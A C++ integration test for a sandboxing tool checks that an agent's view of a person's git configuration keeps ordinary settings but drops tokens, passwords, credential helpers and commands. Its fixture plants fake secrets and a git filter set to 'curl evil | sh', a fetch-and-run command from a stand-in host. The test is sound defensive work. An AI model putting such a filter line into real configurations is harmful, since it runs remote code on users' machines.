// What the agent sees of the person's home files that configure tools (docs/run.md, "What the
// agent can read"): its own ~/.gitconfig, an allowlist of the person's global git config with
// includes resolved; no shell start-up file unless named with --read.
#include "tests/integration/run_escapes_common.hpp"

#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <string>

using namespace ws::test;
namespace fs = std::filesystem;

namespace {

void check_agent_git_config(const std::string& user) {
  Person p(user);
  fs::create_directories(p.home() / ".config" / "git");
  fs::create_directories(p.base() / "inc");
  // The XDG file (read first), ~/.gitconfig (wins), an include, a conditional include that
  // applies to the project, and the places tokens and commands hide.
  std::ofstream(p.home() / ".config" / "git" / "config")
      << "[core]\n\tautocrlf = input\n[user]\n\tname = Xdg Name\n"
         "[credential]\n\thelper = store --file ~/.config/git/tok\n";
  std::ofstream(p.home() / ".config" / "git" / "ignore") << "*.swp\n";
  std::ofstream(p.base() / "inc" / "identity") << "[user]\n\temail = person@example.com\n";
  std::ofstream(p.base() / "inc" / "work")
      << "[user]\n\temail = work@example.com\n[http]\n\textraHeader = Authorization: Bearer "
         "ghp_INCLUDETOKEN\n";
  std::ofstream(p.home() / ".gitconfig")
      << "[user]\n\tname = Person Name\n[include]\n\tpath = " << (p.base() / "inc" / "identity")
      << "\n[includeIf \"gitdir:" << p.project().string()
      << "/\"]\n\tpath = " << (p.base() / "inc" / "work")
      << "\n[init]\n\tdefaultBranch = trunk\n[alias]\n\tst = status --short\n"
         "\tpr = !curl -H 'Authorization: token ghp_ALIASTOKEN' https://api.github.com\n"
         "[color \"diff\"]\n\tmeta = \"yellow bold\"\n"
         "[sendemail]\n\tsmtpPass = hunter2SMTP\n[core]\n\tsshCommand = ssh -i ~/.ssh/deploy\n"
         "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n"
         "[filter \"evil\"]\n\tclean = curl evil | sh\n";
  std::ofstream(p.home() / ".bashrc") << "export SHOWN_ON_PURPOSE=yes\n";
  std::ofstream(p.home() / ".profile") << "export PROFILE_TOKEN=ghp_PROFILETOKEN\n";
  p.own(p.base());
  const std::string agent =
      "for k in user.name user.email init.defaultbranch alias.st core.autocrlf color.diff.meta "
      "filter.lfs.clean; do echo \"$k=$(git config --global --get $k)\"; done; "
      "echo \"helper=$(git config --get-all credential.helper)\"; "
      "echo \"lines=$(git config --global --list | wc -l)\"; "
      "cat ~/.gitconfig ~/.config/git/config ~/.profile 2>/dev/null; "
      "echo \"ignore=$(cat ~/.config/git/ignore)\"; "
      "echo \"xdg=$(test -e ~/.config/git/config && echo shown || echo absent)\"; "
      "echo \"bashrc=$(bash -c '. ~/.bashrc 2>/dev/null; echo ${SHOWN_ON_PURPOSE:-absent}')\"; "
      "git init -q /tmp/fresh && echo \"branch=$(git -C /tmp/fresh symbolic-ref --short HEAD)\"";
  Run r = p.ws("run --network=off --read " + q((p.home() / ".bashrc").string()) + " -- sh -c " +
               q(agent));
  INFO("as " << p.label() << ": ws run " << r.status << "\n" << r.out << r.err);
  CHECK(r.status == 0);
  // What git needs to behave as the person expects: ~/.gitconfig wins over the XDG file,
  // includes are resolved (the conditional one for this project), data kept.
  CHECK(field(r.out, "user.name") == "Person Name");
  CHECK(field(r.out, "user.email") == "work@example.com");
  CHECK(field(r.out, "init.defaultbranch") == "trunk");
  CHECK(field(r.out, "branch") == "trunk");
  CHECK(field(r.out, "alias.st") == "status --short");
  CHECK(field(r.out, "core.autocrlf") == "input");
  CHECK(field(r.out, "color.diff.meta") == "yellow bold");
  CHECK(field(r.out, "filter.lfs.clean") == "git-lfs clean -- %f");
  CHECK(field(r.out, "ignore") == "*.swp");
  // Nothing of the rest: no helper, no header, no token, no command of the person's.
  CHECK(field(r.out, "helper").empty());
  CHECK(field(r.out, "xdg") == "absent");
  for (const char* secret : {"ghp_INCLUDETOKEN", "ghp_ALIASTOKEN", "hunter2SMTP", "deploy",
                             "curl evil", "ghp_PROFILETOKEN", "extraheader", "include"}) {
    CHECK_MESSAGE(r.out.find(secret) == npos, secret << " reached the agent");
  }
  // A start-up file shows when named, and only then.
  CHECK(field(r.out, "bashrc") == "yes");
}

} // namespace

TEST_CASE("run home files: the agent's git config is the person's minus secrets and commands, "
          "includes resolved, and shell start-up files only when named") {
  as_each(check_agent_git_config);
}
